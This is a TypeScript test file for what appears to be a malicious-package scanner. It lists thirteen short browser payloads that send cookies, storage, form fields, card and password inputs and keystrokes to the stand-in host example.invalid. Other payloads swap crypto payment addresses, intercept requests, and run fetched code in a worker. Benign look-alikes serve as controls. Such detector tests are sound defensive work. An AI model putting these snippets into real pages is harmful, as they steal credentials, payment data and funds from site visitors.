import assert from "node:assert/strict";
import { test } from "node:test";
import { packageOf, SEND } from "../../test/support/npm-attack.ts";
import { verdictOf } from "../../test/support/verdict-of.ts";

/** What packages for web pages do to those who open them; inert. */
const ATTACKS: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  "sends all cookies": { page: `${SEND}document.cookie });` },
  "sends cookies as the address of a picture": {
    page: `new Image().src = 'https://example.invalid/?c=' + encodeURIComponent(document.cookie);`,
  },
  "sends cookies and storage as a beacon": {
    page: `navigator.sendBeacon('https://example.invalid', document.cookie + JSON.stringify(localStorage));`,
  },
  "sends a whole storage": { page: `${SEND}JSON.stringify({ ...localStorage }) });` },
  "sends every form": {
    page: `document.querySelectorAll('form').forEach((f) => f.addEventListener('submit', () => { ${SEND}JSON.stringify(Object.fromEntries(new FormData(f))) }); }));`,
  },
  "sends the fields of cards": {
    page: `document.addEventListener('input', (e) => { if (/card|cvv|password/i.test(e.target.name)) navigator.sendBeacon('https://example.invalid', e.target.name + '=' + e.target.value); });`,
  },
  "sends key strokes": {
    page: `let b = '';\ndocument.addEventListener('keydown', (e) => { b += e.key; });\nsetInterval(() => { ${SEND}b }); b = ''; }, 5000);`,
  },
  "sends key strokes as the address of a picture": {
    page: `let b = '';\nwindow.onkeypress = function (e) { b += String.fromCharCode(e.which); if (b.length > 20) { new Image().src = 'https://example.invalid/k?' + b; b = ''; } };`,
  },
  "replaces the recipient of a payment": {
    page: `const o = window.ethereum.request;\nwindow.ethereum.request = (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = '0x${"a".repeat(40)}'; return o.call(window.ethereum, a); };`,
  },
  "replaces addresses in answers": {
    page: `const f = window.fetch;\nwindow.fetch = async (...a) => { const r = await f(...a); const t = await r.text(); return new Response(t.replace(/0x[a-fA-F0-9]{40}/g, '0x${"b".repeat(40)}')); };`,
  },
  "sends the headers of all requests": {
    page: `const f = globalThis.fetch;\nglobalThis.fetch = function (u, o) { if (o && o.headers) f('https://example.invalid', { method: 'POST', body: JSON.stringify(o.headers) }); return f(u, o); };`,
  },
  "sends the bodies of all requests": {
    page: `const s = XMLHttpRequest.prototype.send;\nXMLHttpRequest.prototype.send = function (b) { navigator.sendBeacon('https://example.invalid', b); return s.apply(this, arguments); };`,
  },
  "runs fetched text in a worker": {
    page: `fetch('https://example.invalid/x').then((r) => r.text()).then((c) => new Worker(URL.createObjectURL(new Blob([c]))));`,
  },
};

const HONEST: Readonly<Record<string, string>> = {
  "reads one cookie":
    "const c = document.cookie.split('; ').find((one) => one.startsWith('id='));\nfetch('https://example.invalid/?' + c);",
  "sends its own form":
    "const form = document.querySelector('form');\nform.addEventListener('submit', (e) => {\n  e.preventDefault();\n  fetch('https://example.invalid', { method: 'POST', body: new FormData(form) });\n});",
  "has keys for commands":
    "document.addEventListener('keydown', (e) => { if (e.key === '/') search.focus(); });\nfetch('https://example.invalid/news');",
  "measures requests":
    "const f = window.fetch;\nwindow.fetch = (...a) => { const t = Date.now(); return f(...a).finally(() => report(options.url, Date.now() - t)); };",
};

for (const [what, files] of Object.entries(ATTACKS))
  test(`a package for pages that ${what} is withheld`, () =>
    assert.notEqual(verdictOf("npm", packageOf(files)), "clean"));

for (const [what, main] of Object.entries(HONEST))
  test(`a package for pages that ${what} is clean`, () => assert.equal(verdictOf("npm", packageOf({ main })), "clean"));
